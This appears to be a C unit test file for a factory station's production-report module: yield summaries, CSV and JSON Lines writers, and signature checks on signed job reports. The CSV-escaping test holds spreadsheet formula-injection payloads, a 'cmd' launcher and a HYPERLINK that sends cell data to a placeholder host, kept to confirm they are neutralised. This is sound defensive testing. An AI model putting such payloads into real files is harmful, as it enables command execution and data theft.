/* Production records: attempts summed up per day, lot, SKU and station with the yield and
 * the failures by reason; the CSV (RFC 4180 quoting, CRLF) and JSON Lines writers; and the
 * signed job-end report: verified against the factory root and the authorization, refused
 * after any byte is changed, when signed by a key not certified for reports (the local CA's
 * own), when its counts do not add up, and when it is about another authorization. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include <jansson.h>
#include <openssl/evp.h>
#include <openssl/sha.h>
#include <openssl/x509.h>
#include <openssl/x509v3.h>

#include "auth.h"
#include "cms.h"
#include "err.h"
#include "ledger.h"
#include "report.h"
#include "testutil.h"

#define FACTORY "acme-factory"

static char dir[4096];
static char ebuf[1024];

/* The PKI: factory root, local CA under it, the station's report key under the local CA;
 * all file keys. */
static struct {
	EVP_PKEY *root_key, *ca_key, *rep_key;
	X509 *root, *ca, *rep;
	struct drv_signer *root_s, *ca_s, *rep_s;
} pki;

static X509 *cert_for(EVP_PKEY *pub, const char *cn, X509 *issuer, EVP_PKEY *ikey,
		      const char *bc, const char *ku, const char *eku)
{
	X509 *x = tu_issue_cert(pub, cn, FACTORY, issuer, ikey, bc, ku, eku);

	assert_non_null(x);
	return x;
}

static struct drv_signer *signer_for(const char *name, EVP_PKEY *key)
{
	struct drv_signer *s = NULL;
	char path[4200];

	snprintf(path, sizeof(path), "%s/%s.key", dir, name);
	if (tu_file_signer(path, key, &s, ebuf, sizeof(ebuf)) != 0)
		fail_msg("signer %s: %s", name, ebuf);
	return s;
}

static int setup(void **state)
{
	const char *d = tu_tmpdir("report");

	(void)state;
	if (!d)
		return -1;
	snprintf(dir, sizeof(dir), "%s", d);
	pki.root_key = EVP_EC_gen("P-256");
	pki.ca_key = EVP_EC_gen("P-256");
	pki.rep_key = EVP_EC_gen("P-256");
	pki.root = cert_for(pki.root_key, "Factory-CA", NULL, pki.root_key, "critical,CA:TRUE",
			    "critical,keyCertSign,cRLSign", NULL);
	pki.ca = cert_for(pki.ca_key, "Local-Device-CA", pki.root, pki.root_key,
			  "critical,CA:TRUE,pathlen:0", "critical,keyCertSign,cRLSign", NULL);
	pki.rep = cert_for(pki.rep_key, "Station-Report", pki.ca, pki.ca_key, "critical,CA:FALSE",
			   "critical,digitalSignature", "critical," ST_OID_KP_REPORT);
	pki.root_s = signer_for("root", pki.root_key);
	pki.ca_s = signer_for("ca", pki.ca_key);
	pki.rep_s = signer_for("report", pki.rep_key);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	drv_signer_close(pki.root_s);
	drv_signer_close(pki.ca_s);
	drv_signer_close(pki.rep_s);
	X509_free(pki.root);
	X509_free(pki.ca);
	X509_free(pki.rep);
	EVP_PKEY_free(pki.root_key);
	EVP_PKEY_free(pki.ca_key);
	EVP_PKEY_free(pki.rep_key);
	return tu_rmtree(dir);
}

static struct st_ledger *fresh_ledger(const char *name, const char *station)
{
	struct st_ledger *l = NULL;
	char path[4300];

	snprintf(path, sizeof(path), "%s/%s.db", dir, name);
	unlink(path);
	if (st_ledger_open(path, station, &l, ebuf, sizeof(ebuf)) != 0)
		fail_msg("ledger: %s", ebuf);
	return l;
}

static void attempt(struct st_ledger *l, time_t t, const char *outcome, const char *reason,
		    const char *profile, const char *auth)
{
	struct st_ledger_attempt a;

	memset(&a, 0, sizeof(a));
	a.time = t;
	a.slot = "A1";
	a.outcome = outcome;
	a.reason = reason;
	a.error = reason ? "it failed, \"badly\",\non two lines" : NULL;
	a.profile = profile;
	a.auth_id = auth;
	a.reused = reason == NULL && auth == NULL;
	a.ms = 100;
	if (st_ledger_add_attempt(l, &a, ebuf, sizeof(ebuf)) != 0)
		fail_msg("attempt: %s", ebuf);
}

/* Text written by fn into memory. */
static char *capture(int (*fn)(void *arg, FILE *f), void *arg)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	assert_int_equal(fn(arg, f), 0);
	fclose(f);
	return buf;
}

struct write_args {
	const struct st_report *r;
	struct st_ledger *l;
	int jsonl;
};

static int write_summary(void *arg, FILE *f)
{
	struct write_args *w = arg;

	return st_report_write(w->r, f, w->jsonl);
}

static int write_attempts(void *arg, FILE *f)
{
	struct write_args *w = arg;

	return st_report_write_attempts(w->l, 0, 0, f, w->jsonl, ebuf, sizeof(ebuf));
}

#define DAY1 1767225600 /* 2026-01-01T00:00:00Z */
#define DAY2 (DAY1 + 86400)

static void test_summary(void **state)
{
	struct st_ledger *l = fresh_ledger("summary", "line-1");
	struct st_ledger_auth a;
	struct st_report *r = NULL;
	struct write_args w;
	char *text;

	(void)state;
	memset(&a, 0, sizeof(a));
	a.id = "auth-7";
	a.units = 10;
	a.lot = "LOT-7";
	SHA256((const unsigned char *)"doc", 3, a.doc_sha256);
	assert_int_equal(st_ledger_auth_register(l, &a, NULL, ebuf, sizeof(ebuf)), 0);
	attempt(l, DAY1 + 10, "pass", NULL, "gw", "auth-7");
	attempt(l, DAY1 + 20, "pass", NULL, "gw", "auth-7");
	attempt(l, DAY1 + 30, "fail", "CSR_SIGNATURE", "gw", NULL);
	attempt(l, DAY1 + 40, "fail", "PROTO_TIMEOUT", "gw", NULL);
	attempt(l, DAY1 + 50, "fail", "PROTO_TIMEOUT", NULL, NULL);
	attempt(l, DAY2 + 10, "pass", NULL, "sensor", NULL);
	attempt(l, DAY2 + 20, "abandoned", "ENGINE_STOPPING", "sensor", NULL);

	assert_int_equal(st_report_summarize(l, 0, 0, ST_REPORT_BY_DAY, &r, ebuf, sizeof(ebuf)),
			 0);
	w.r = r;
	w.jsonl = 0;
	text = capture(write_summary, &w);
	assert_string_equal(text,
			    "day,attempts,passed,failed,abandoned,reused,yield,failures\r\n"
			    "2026-01-01,5,2,3,0,0,0.4000,\"PROTO_TIMEOUT=2;CSR_SIGNATURE=1\"\r\n"
			    "2026-01-02,2,1,0,1,1,1.0000,\r\n");
	free(text);
	w.jsonl = 1;
	text = capture(write_summary, &w);
	assert_string_equal(text,
			    "{\"day\":\"2026-01-01\",\"attempts\":5,\"passed\":2,\"failed\":3,"
			    "\"abandoned\":0,\"reused\":0,\"yield\":0.4,\"failures\":{"
			    "\"PROTO_TIMEOUT\":2,\"CSR_SIGNATURE\":1}}\n"
			    "{\"day\":\"2026-01-02\",\"attempts\":2,\"passed\":1,\"failed\":0,"
			    "\"abandoned\":1,\"reused\":1,\"yield\":1.0,\"failures\":{}}\n");
	free(text);
	st_report_free(r);

	/* By lot: attempts without an authorization have none. By SKU: the profile, else
	 * unknown. Over a range: since inclusive, until exclusive. */
	assert_int_equal(st_report_summarize(l, 0, 0, ST_REPORT_BY_LOT, &r, ebuf, sizeof(ebuf)),
			 0);
	assert_int_equal(r->n, 2);
	assert_string_equal(r->groups[0].key, "");
	assert_int_equal(r->groups[0].attempts, 5);
	assert_string_equal(r->groups[1].key, "LOT-7");
	assert_int_equal(r->groups[1].passed, 2);
	st_report_free(r);
	assert_int_equal(st_report_summarize(l, 0, 0, ST_REPORT_BY_SKU, &r, ebuf, sizeof(ebuf)),
			 0);
	assert_int_equal(r->n, 3);
	assert_string_equal(r->groups[0].key, "");
	assert_string_equal(r->groups[1].key, "gw");
	assert_int_equal(r->groups[1].failed, 2);
	st_report_free(r);
	assert_int_equal(st_report_summarize(l, DAY1 + 20, DAY2, ST_REPORT_BY_ALL, &r, ebuf,
					     sizeof(ebuf)),
			 0);
	assert_int_equal(r->n, 1);
	assert_string_equal(r->groups[0].key, "all");
	assert_int_equal(r->groups[0].attempts, 4);
	st_report_free(r);
	assert_int_equal(st_report_summarize(l, DAY2 + 86400, 0, ST_REPORT_BY_STATION, &r, ebuf,
					     sizeof(ebuf)),
			 0);
	assert_int_equal(r->n, 0);
	st_report_free(r);

	/* The raw attempts: a message with a comma, quotes and a line break is one quoted
	 * field with its quotes doubled. */
	w.l = l;
	w.jsonl = 0;
	text = capture(write_attempts, &w);
	assert_non_null(strstr(text, ST_REPORT_ATTEMPT_COLUMNS "\r\n"));
	assert_non_null(strstr(text, ",CSR_SIGNATURE,\"it failed, \"\"badly\"\",\non two lines\","));
	assert_non_null(strstr(text, ",LOT-7,"));
	free(text);
	w.jsonl = 1;
	text = capture(write_attempts, &w);
	assert_non_null(strstr(text, "\"error\":\"it failed, \\\"badly\\\",\\non two lines\""));
	free(text);
	st_ledger_close(l);
}

/* A ledger with n certificates under a registered authorization of units units. */
static struct st_ledger *job_ledger(const char *name, const char *auth_id, int64_t units,
				    const uint8_t doc_sha[32], int n)
{
	struct st_ledger *l = fresh_ledger(name, "line-1");
	struct st_ledger_auth a;
	static const uint8_t cert[] = { 0x30, 0x00 };

	memset(&a, 0, sizeof(a));
	a.id = auth_id;
	a.units = units;
	a.lot = "LOT-J";
	memcpy(a.doc_sha256, doc_sha, 32);
	assert_int_equal(st_ledger_auth_register(l, &a, NULL, ebuf, sizeof(ebuf)), 0);
	for (int i = 0; i < n; i++) {
		struct st_ledger_row r;
		char serial[16], dev[32], seed[16];
		int64_t id;

		memset(&r, 0, sizeof(r));
		snprintf(serial, sizeof(serial), "%04x", 0x100 + i);
		snprintf(dev, sizeof(dev), "dev-%d", i);
		snprintf(seed, sizeof(seed), "k%d", i);
		r.serial = serial;
		r.device_id = dev;
		SHA256((const unsigned char *)seed, strlen(seed), r.pubkey_sha256);
		assert_int_equal(st_ledger_add_intent_auth(l, &r, auth_id, &id, NULL, NULL, ebuf,
							   sizeof(ebuf)),
				 0);
		assert_int_equal(st_ledger_set_cert(l, id, cert, sizeof(cert), 1, 2, ebuf,
						    sizeof(ebuf)),
				 0);
	}
	return l;
}

static uint8_t *sign_with(struct drv_signer *s, X509 *cert, X509 *between, const char *json,
			  size_t *len)
{
	STACK_OF(X509) *chain = sk_X509_new_null();
	uint8_t *der = NULL;

	if (between)
		sk_X509_push(chain, between);
	if (st_cms_sign(s, cert, chain, ST_OID_CT_REPORT, (const uint8_t *)json, strlen(json),
			&der, len, ebuf, sizeof(ebuf)) != 0)
		fail_msg("sign: %s", ebuf);
	sk_X509_free(chain);
	return der;
}

static int verify(const uint8_t *doc, size_t len, const uint8_t *auth, size_t alen)
{
	struct st_report_job j;
	int rc = st_report_verify(doc, len, pki.root, auth, alen, &j, ebuf, sizeof(ebuf));

	if (rc == 0)
		st_report_job_clear(&j);
	return rc;
}

/* The job-end report's content, edited: key set to value (JSON text). */
static char *edited(const char *json, const char *key, const char *value)
{
	json_t *o = json_loads(json, 0, NULL), *v = json_loads(value, JSON_DECODE_ANY, NULL);
	char *out;

	assert_non_null(o);
	assert_non_null(v);
	json_object_set_new(o, key, v);
	out = json_dumps(o, JSON_PRESERVE_ORDER);
	json_decref(o);
	return out;
}

static void test_job_report(void **state)
{
	struct st_auth_spec spec;
	const char *const skus[] = { "gw" };
	struct st_report_job j;
	struct st_ledger *l;
	uint8_t *auth, *auth2, *der, sha[32];
	size_t alen, alen2, len, jlen, count;
	char *json, *bad;

	(void)state;
	/* The brand owner's authorization for 5 units, and another one. */
	memset(&spec, 0, sizeof(spec));
	spec.id = "job-auth";
	spec.factory = FACTORY;
	spec.skus = skus;
	spec.nskus = 1;
	spec.lot = "LOT-J";
	spec.units = 5;
	spec.not_before = time(NULL) - 86400;
	spec.not_after = time(NULL) + 86400;
	assert_int_equal(st_auth_issue(pki.root_s, pki.root, NULL, &spec, &auth, &alen, ebuf,
				       sizeof(ebuf)),
			 0);
	spec.id = "other-auth";
	assert_int_equal(st_auth_issue(pki.root_s, pki.root, NULL, &spec, &auth2, &alen2, ebuf,
				       sizeof(ebuf)),
			 0);
	SHA256(auth, alen, sha);
	l = job_ledger("job", "job-auth", 5, sha, 3);
	assert_int_equal(st_report_job_content(l, "job-auth", "line-1", FACTORY, &json, &jlen,
					       &count, ebuf, sizeof(ebuf)),
			 0);
	assert_int_equal(count, 3);
	assert_int_equal(st_report_job_content(l, "nope", "line-1", FACTORY, &bad, &jlen, &count,
					       ebuf, sizeof(ebuf)),
			 ST_E_NOTFOUND);
	st_ledger_close(l);

	/* Signed by the report key, chain through the local CA: verifies, with and without
	 * the authorization. */
	der = sign_with(pki.rep_s, pki.rep, pki.ca, json, &len);
	assert_int_equal(st_report_verify(der, len, pki.root, auth, alen, &j, ebuf, sizeof(ebuf)),
			 0);
	assert_string_equal(j.auth_id, "job-auth");
	assert_string_equal(j.station, "line-1");
	assert_int_equal(j.count, 3);
	assert_int_equal(j.units, 5);
	assert_non_null(strstr(j.signer, "Station-Report"));
	st_report_job_clear(&j);
	assert_int_equal(verify(der, len, NULL, 0), 0);
	/* About another authorization. */
	assert_int_equal(verify(der, len, auth2, alen2), ST_E_REPORT_COUNT);
	/* Any byte changed: refused. */
	for (size_t i = 0; i < len; i++) {
		static const uint8_t masks[] = { 0x01, 0x20, 0x80 };

		for (size_t m = 0; m < sizeof(masks); m++) {
			der[i] ^= masks[m];
			if (verify(der, len, NULL, 0) == 0)
				fail_msg("byte %zu of %zu changed (^0x%02x), and the report still "
					 "verifies",
					 i, len, masks[m]);
			der[i] ^= masks[m];
		}
	}
	assert_int_equal(verify(der, len, auth, alen), 0);
	OPENSSL_free(der);

	/* Signed with the local CA's own key, or without the chain to the root. */
	der = sign_with(pki.ca_s, pki.ca, NULL, json, &len);
	assert_int_equal(verify(der, len, NULL, 0), ST_E_REPORT_PURPOSE);
	OPENSSL_free(der);
	der = sign_with(pki.rep_s, pki.rep, NULL, json, &len);
	assert_int_equal(verify(der, len, NULL, 0), ST_E_REPORT_UNTRUSTED);
	OPENSSL_free(der);

	/* Counts that do not add up, and more certificates than units. */
	bad = edited(json, "count", "4");
	der = sign_with(pki.rep_s, pki.rep, pki.ca, bad, &len);
	assert_int_equal(verify(der, len, NULL, 0), ST_E_REPORT_COUNT);
	OPENSSL_free(der);
	free(bad);
	bad = edited(json, "count", "6");
	{
		char *more = edited(bad, "certificates",
				    "[{\"serial\":\"01\",\"pubkey_sha256\":\"" /* six of them */
				    "0000000000000000000000000000000000000000000000000000000000000001"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"},"
				    "{\"serial\":\"02\",\"pubkey_sha256\":\""
				    "0000000000000000000000000000000000000000000000000000000000000002"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"},"
				    "{\"serial\":\"03\",\"pubkey_sha256\":\""
				    "0000000000000000000000000000000000000000000000000000000000000003"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"},"
				    "{\"serial\":\"04\",\"pubkey_sha256\":\""
				    "0000000000000000000000000000000000000000000000000000000000000004"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"},"
				    "{\"serial\":\"05\",\"pubkey_sha256\":\""
				    "0000000000000000000000000000000000000000000000000000000000000005"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"},"
				    "{\"serial\":\"06\",\"pubkey_sha256\":\""
				    "0000000000000000000000000000000000000000000000000000000000000006"
				    "\",\"device_id\":\"a\",\"station\":\"s\",\"signed_at\":\"t\"}]");

		der = sign_with(pki.rep_s, pki.rep, pki.ca, more, &len);
		assert_int_equal(verify(der, len, NULL, 0), 0);
		assert_int_equal(verify(der, len, auth, alen), ST_E_REPORT_COUNT);
		assert_non_null(strstr(ebuf, "allows 5"));
		OPENSSL_free(der);
		/* The same serial twice. */
		free(bad);
		bad = edited(more, "count", "6");
		free(more);
		more = bad;
		bad = NULL;
		{
			char *p = strstr(more, "\"02\"");

			assert_non_null(p);
			p[2] = '1';
		}
		der = sign_with(pki.rep_s, pki.rep, pki.ca, more, &len);
		assert_int_equal(verify(der, len, NULL, 0), ST_E_REPORT_COUNT);
		OPENSSL_free(der);
		free(more);
	}
	free(bad);
	bad = edited(json, "extra", "1");
	der = sign_with(pki.rep_s, pki.rep, pki.ca, bad, &len);
	assert_int_equal(verify(der, len, NULL, 0), ST_E_REPORT_FORMAT);
	OPENSSL_free(der);
	free(bad);
	free(json);
	OPENSSL_free(auth);
	OPENSSL_free(auth2);
}

/* st_csv_field: RFC 4180 quoting, and no cell a spreadsheet would run as a formula, whether
 * its separator is ',' or ';' (the attack of a board that names its firmware "=cmd|..."). */
static void test_csv_field(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ NULL, "" },
		{ "", "" },
		{ "plain", "plain" },
		{ "a,b", "\"a,b\"" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
		{ "two\r\nlines", "\"two\r\nlines\"" },
		/* Numbers and a sign alone stay as they are: "-" is the exports' absent time. */
		{ "-", "-" },
		{ "+", "+" },
		{ "-12", "-12" },
		{ "+3.25", "+3.25" },
		{ "0.5000", "0.5000" },
		{ "2026-12-08T00:00:00Z", "2026-12-08T00:00:00Z" },
		{ "SN10-0001", "SN10-0001" },
		/* What would start a formula. */
		{ "=1+1", "\"'=1+1\"" },
		{ "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"" },
		{ "=HYPERLINK(\"http://x.example/\"&A1,\"open\")",
		  "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"open\"\")\"" },
		{ "@SUM(A1)", "\"'@SUM(A1)\"" },
		{ "+1+2", "\"'+1+2\"" },
		{ "-2+3", "\"'-2+3\"" },
		{ "-1.", "-1." },
		{ "+.5", "\"'+.5\"" },
		{ "-x", "\"'-x\"" },
		{ "\t=1", "\"'\t=1\"" },
		{ "\r=1", "\"'\r=1\"" },
		/* After a ';', where a locale's lists are separated by it. */
		{ "a;b", "\"a;b\"" },
		{ "fw;=1+1", "\"fw;'=1+1\"" },
		{ "fw;-5;@x;+", "\"fw;-5;'@x;+\"" },
		{ "x;\"=1+1\"", "\"x;'\"\"=1+1\"\"\"" },
		{ "=a;=b", "\"'=a;'=b\"" },
		{ "a;", "\"a;\"" },
		{ "REASON_A=2;REASON_B=1", "\"REASON_A=2;REASON_B=1\"" },
	};
	(void)state;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *buf = NULL, want[256];
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);

		assert_non_null(f);
		st_csv_field(f, cases[i].in, 0);
		st_csv_field(f, cases[i].in, 1);
		assert_int_equal(fclose(f), 0);
		snprintf(want, sizeof(want), "%s,%s\r\n", cases[i].out, cases[i].out);
		if (strcmp(buf, want) != 0)
			fail_msg("case %zu: \"%s\" written as \"%s\", not \"%s\"", i,
				 cases[i].in ? cases[i].in : "(null)", buf, want);
		free(buf);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_summary),
		cmocka_unit_test(test_job_report),
		cmocka_unit_test(test_csv_field),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
